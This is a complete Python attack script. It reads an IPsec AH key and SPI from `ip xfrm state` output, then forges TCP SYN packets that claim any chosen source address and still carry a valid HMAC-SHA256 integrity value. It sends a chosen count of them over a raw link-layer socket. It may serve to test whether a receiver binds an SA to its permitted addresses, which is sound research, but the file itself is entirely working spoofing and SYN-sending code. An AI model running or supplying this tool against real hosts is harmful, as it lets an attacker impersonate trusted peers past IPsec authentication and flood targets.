#!/usr/bin/python3
"""Sends TCP SYNs under one's own outbound AH SA, with any source address and a correct ICV.

  forge.py STATES MAC OWN TO FROM PORT COUNT

STATES is the output of `ip xfrm state`: the SA from OWN to TO is used for packets that claim to
come from FROM, sent to the link address MAC.
"""

import hashlib
import hmac
import re
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, destination, port, to, number):
    """A SYN (RFC 9293 section 3.1)."""
    plain = struct.pack(">HHIIBBHHH", port, to, number, 0, 0x50, 2, 64240, 0, 0)
    # IPv6 has the two numbers in longer fields and in the other order, which adds up to the same.
    pseudo = source + destination + struct.pack(">HH", socket.IPPROTO_TCP, len(plain))
    return plain[:16] + struct.pack(">H", checksum(pseudo + plain)) + plain[18:]


def packet(source, destination, spi, key, number, payload):
    """AH in transport mode (RFC 4302); what changes on the way counts as zero, and the high half
    of the 64-bit sequence number is covered at the end. On IPv6 AH is a multiple of 8 octets."""
    padding = bytes(4 if len(source) == 16 else 0)
    words = (12 + 16 + len(padding)) // 4
    ah = struct.pack(">BBHII", socket.IPPROTO_TCP, words - 2, 0, spi, number)
    rest = 4 * words + len(payload)

    def header(ttl, check):
        if len(source) == 16:
            return struct.pack(">IHBB", 0x6000_0000, rest, 51, ttl) + source + destination
        return struct.pack(">BBHHHBBH", 0x45, 0, 20 + rest, number, 0, ttl, 51, check) + source \
            + destination

    covered = header(0, 0) + ah + bytes(16) + padding + payload + bytes(4)
    icv = hmac.new(key, covered, hashlib.sha256).digest()[:16]
    return header(64, checksum(header(64, 0))) + ah + icv + padding + payload


states, mac, own, to, claimed, port, count = sys.argv[1:]
pattern = (rf"src {re.escape(own)} dst {re.escape(to)}\n\s+proto ah spi (0x\w+).*?"
           r"auth-trunc hmac\(sha256\) 0x(\w+) 128")
spi, key = re.search(pattern, open(states).read(), re.S).groups()
# Above all that the kernel sent so far, within the replay window, and each once.
first = 500 + int(port) % 251 + (0 if claimed == own else 200)
family, ethernet = (socket.AF_INET6, 0x86DD) if ":" in to else (socket.AF_INET, 0x0800)
ends = socket.inet_pton(family, claimed), socket.inet_pton(family, to)
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
    link.bind(("eth0", ethernet))
    frame = bytes.fromhex(mac.replace(":", "")) + link.getsockname()[4]
    frame += struct.pack(">H", ethernet)
    for number in range(first, first + int(count)):
        syn = segment(*ends, 40000 + number, int(port), number)
        link.send(frame + packet(*ends, int(spi, 16), bytes.fromhex(key), number, syn))
